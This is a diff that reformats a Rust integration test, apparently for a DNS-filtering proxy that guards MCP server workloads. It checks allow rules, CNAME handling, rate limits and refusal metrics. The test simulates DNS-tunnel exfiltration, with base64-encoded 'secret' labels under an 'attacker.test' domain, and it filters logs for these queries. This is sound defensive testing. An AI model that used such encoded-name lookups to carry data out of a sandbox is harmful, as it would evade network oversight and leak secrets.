@@ -584,7 +584,13 @@ attach_cgroup = "{root}"
 #[test]
 fn proxy_refuses_what_no_host_rule_allows() {
     let ns = NetNs::new();
-    for a in ["93.184.216.34", "151.101.1.10", "151.101.1.20", "9.9.9.9", "9.9.9.10"] {
+    for a in [
+        "93.184.216.34",
+        "151.101.1.10",
+        "151.101.1.20",
+        "9.9.9.9",
+        "9.9.9.10",
+    ] {
         ns.add_addr(a);
         ns.listen_tcp(&format!("{a}:443"));
     }
@@ -680,8 +686,19 @@ rate_limit_per_sec = 0
     // A wildcard name: answered, its TTL (60 at dnsmasq) capped at max_ttl = 10, usable.
     let r = ask(&mut web, "x1.cdn.example.test", "A", "udp");
     assert!(r.starts_with("RCODE=0 ADDR=151.101.1.10 TTL="), "{r}");
-    let ttl: u32 = r.split("TTL=").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
-    assert!((1..=10).contains(&ttl), "answer TTL {ttl} above max_ttl: {r}");
+    let ttl: u32 = r
+        .split("TTL=")
+        .nth(1)
+        .unwrap()
+        .split(' ')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(
+        (1..=10).contains(&ttl),
+        "answer TTL {ttl} above max_ttl: {r}"
+    );
     assert_eq!(web.op("tcp 151.101.1.10 443"), "OK");
     let r = ask(&mut web, "api.example.test", "A", "tcp");
     assert!(r.starts_with("RCODE=0 ADDR=93.184.216.34 TTL="), "{r}");
@@ -691,7 +708,11 @@ rate_limit_per_sec = 0
     for proto in ["udp", "tcp"] {
         for ty in ["A", "AAAA", "TXT"] {
             let name = format!("c2VjcmV0LTQy-{proto}-{ty}.attacker.test").to_lowercase();
-            assert_eq!(ask(&mut web, &name, ty, proto), refused, "{name} {ty}/{proto}");
+            assert_eq!(
+                ask(&mut web, &name, ty, proto),
+                refused,
+                "{name} {ty}/{proto}"
+            );
             sent += 1;
         }
     }
@@ -703,10 +724,20 @@ rate_limit_per_sec = 0
     // A CNAME target is not allowed on its own, only once an allowed name led to it.
     assert_eq!(ask(&mut web, "edge.othercdn.test", "A", "udp"), refused);
     let r = ask(&mut web, "www.example.test", "A", "udp");
-    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.20"), "CNAME chain: {r}");
-    assert_eq!(web.op("tcp 151.101.1.20 443"), "OK", "the CNAME target's address");
+    assert!(
+        r.starts_with("RCODE=0 ADDR=151.101.1.20"),
+        "CNAME chain: {r}"
+    );
+    assert_eq!(
+        web.op("tcp 151.101.1.20 443"),
+        "OK",
+        "the CNAME target's address"
+    );
     let r = ask(&mut web, "edge.othercdn.test", "A", "udp");
-    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.20"), "reached through the CNAME: {r}");
+    assert!(
+        r.starts_with("RCODE=0 ADDR=151.101.1.20"),
+        "reached through the CNAME: {r}"
+    );
 
     // A client that is no workload gets nothing upstream.
     let mut stranger = Probe::new(PROBE, &stranger_dir, &ns);
@@ -723,14 +754,32 @@ rate_limit_per_sec = 0
     let queries = dnsmasq.queries();
     let leaked: Vec<&String> = queries
         .iter()
-        .filter(|q| q.contains("attacker") || q.contains("query[TXT]") || q.contains("query[MX]") || q.contains("query[ANY]"))
+        .filter(|q| {
+            q.contains("attacker")
+                || q.contains("query[TXT]")
+                || q.contains("query[MX]")
+                || q.contains("query[ANY]")
+        })
         .collect();
-    assert!(leaked.is_empty(), "refused queries reached dnsmasq: {leaked:#?}");
-    for want in ["x1.cdn.example.test", "www.example.test", "whatever.any.test"] {
-        assert!(queries.iter().any(|q| q.contains(want)), "{want} never asked: {queries:#?}");
+    assert!(
+        leaked.is_empty(),
+        "refused queries reached dnsmasq: {leaked:#?}"
+    );
+    for want in [
+        "x1.cdn.example.test",
+        "www.example.test",
+        "whatever.any.test",
+    ] {
+        assert!(
+            queries.iter().any(|q| q.contains(want)),
+            "{want} never asked: {queries:#?}"
+        );
     }
     assert_eq!(
-        queries.iter().filter(|q| q.contains("query[A] edge.othercdn.test")).count(),
+        queries
+            .iter()
+            .filter(|q| q.contains("query[A] edge.othercdn.test"))
+            .count(),
         1,
         "only the question after the CNAME: {queries:#?}"
     );
@@ -764,12 +813,20 @@ rate_limit_per_sec = 0
             .count()
     };
     let deadline = Instant::now() + Duration::from_secs(10);
-    while cases.iter().any(|(r, w)| count(&events, r, *w) < want(r, *w)) && Instant::now() < deadline {
+    while cases
+        .iter()
+        .any(|(r, w)| count(&events, r, *w) < want(r, *w))
+        && Instant::now() < deadline
+    {
         events.extend(d.events(Duration::from_millis(200)));
     }
     events.extend(d.events(Duration::from_millis(300)));
     for (r, w) in cases {
-        assert_eq!(count(&events, r, w), want(r, w), "{r} events for {w:?}: {events:#?}");
+        assert_eq!(
+            count(&events, r, w),
+            want(r, w),
+            "{r} events for {w:?}: {events:#?}"
+        );
         let series = format!(
             "mcp_guard_dns_query_refused_total{{reason=\"{r}\",workload=\"{}\"}}",
             w.unwrap_or("")
@@ -783,10 +840,15 @@ rate_limit_per_sec = 0
     assert_schema_valid(e);
     assert_eq!(e["verdict"], "refused");
     assert_eq!(e["dns_source"], "proxy");
-    assert!(e["name"].as_str().unwrap().ends_with(".attacker.test"), "{e:#}");
+    assert!(
+        e["name"].as_str().unwrap().ends_with(".attacker.test"),
+        "{e:#}"
+    );
     let line = first_event_line(&d, &["--since", "5m", "--reason", "name-not-allowed"]);
     assert!(
-        line.contains("REFUSED web-mcp DNS query c2vjcmv0ltqy-udp-a.attacker.test A from 127.0.0.1:"),
+        line.contains(
+            "REFUSED web-mcp DNS query c2vjcmv0ltqy-udp-a.attacker.test A from 127.0.0.1:"
+        ),
         "{line}"
     );
 
@@ -794,31 +856,60 @@ rate_limit_per_sec = 0
     // (documented), unless deny_direct_dns: then DNS and DNS over TLS go only where an
     // allow rule says (the proxy always), while the rest of its public traffic flows.
     let mut open = Probe::new(PROBE, &open_dir, &ns);
-    assert_eq!(open.op("udp-sendto 9.9.9.9 53"), "OK", "deny-internal allows public DNS");
-    assert!(wait_until(Duration::from_secs(2), || public_dns.load(std::sync::atomic::Ordering::SeqCst) == 1));
+    assert_eq!(
+        open.op("udp-sendto 9.9.9.9 53"),
+        "OK",
+        "deny-internal allows public DNS"
+    );
+    assert!(wait_until(Duration::from_secs(2), || public_dns
+        .load(std::sync::atomic::Ordering::SeqCst)
+        == 1));
     let mut closed = Probe::new(PROBE, &closed_dir, &ns);
-    for op in ["udp-sendto 9.9.9.9 53", "udp-connect 9.9.9.9 53", "tcp 9.9.9.9 53", "tcp 9.9.9.9 853", "tcp6-mapped 9.9.9.9 53"] {
+    for op in [
+        "udp-sendto 9.9.9.9 53",
+        "udp-connect 9.9.9.9 53",
+        "tcp 9.9.9.9 53",
+        "tcp 9.9.9.9 853",
+        "tcp6-mapped 9.9.9.9 53",
+    ] {
         assert_eq!(closed.op(op), "EPERM", "deny_direct_dns: {op}");
     }
     assert_eq!(closed.op("tcp 9.9.9.9 443"), "OK", "other public traffic");
-    assert_eq!(closed.op("udp-sendto 9.9.9.10 53"), "OK", "a resolver an allow rule names");
+    assert_eq!(
+        closed.op("udp-sendto 9.9.9.10 53"),
+        "OK",
+        "a resolver an allow rule names"
+    );
     let r = ask(&mut closed, "api.example.test", "A", "udp");
     assert_eq!(r, refused, "the proxy still filters: no host rule");
     std::thread::sleep(Duration::from_millis(200));
-    assert_eq!(public_dns.load(std::sync::atomic::Ordering::SeqCst), 1, "only the open workload's datagram arrived");
+    assert_eq!(
+        public_dns.load(std::sync::atomic::Ordering::SeqCst),
+        1,
+        "only the open workload's datagram arrived"
+    );
     assert_eq!(listed_dns.load(std::sync::atomic::Ordering::SeqCst), 1);
 
     // Fairness: one workload floods (600 allowed names at once, 20 per second allowed);
     // another resolves meanwhile.
     let mut flood = Probe::new(PROBE, &flood_dir, &ns);
-    let flooding = std::thread::spawn(move || flood.op(&format!("dns-flood 600 f cdn.example.test {PROXY}")));
+    let flooding =
+        std::thread::spawn(move || flood.op(&format!("dns-flood 600 f cdn.example.test {PROXY}")));
     std::thread::sleep(Duration::from_millis(100));
     let r = ask(&mut web, "x2.cdn.example.test", "A", "udp");
-    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.10"), "starved by another workload: {r}");
+    assert!(
+        r.starts_with("RCODE=0 ADDR=151.101.1.10"),
+        "starved by another workload: {r}"
+    );
     let flooded = flooding.join().expect("flood");
     assert!(flooded.starts_with("SENT 600 ANSWERED"), "{flooded}");
-    let limited = metric(&d, "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"flood-mcp\"}")
-        + metric(&d, "mcp_guard_dns_query_refused_total{reason=\"in-flight-limited\",workload=\"flood-mcp\"}");
+    let limited = metric(
+        &d,
+        "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"flood-mcp\"}",
+    ) + metric(
+        &d,
+        "mcp_guard_dns_query_refused_total{reason=\"in-flight-limited\",workload=\"flood-mcp\"}",
+    );
     // What the flooder got back REFUSED is exactly what was counted (the kernel drops
     // some of 600 datagrams sent at once from the proxy's socket buffer: never answered).
     let refused_back: f64 = flooded
@@ -828,7 +919,10 @@ rate_limit_per_sec = 0
     assert!(refused_back >= 100.0, "flood not limited: {flooded}");
     assert_eq!(limited, refused_back, "{flooded}");
     assert_eq!(
-        metric(&d, "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"web-mcp\"}"),
+        metric(
+            &d,
+            "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"web-mcp\"}"
+        ),
         0.0
     );
     assert!(d.stop(), "daemon exits cleanly");
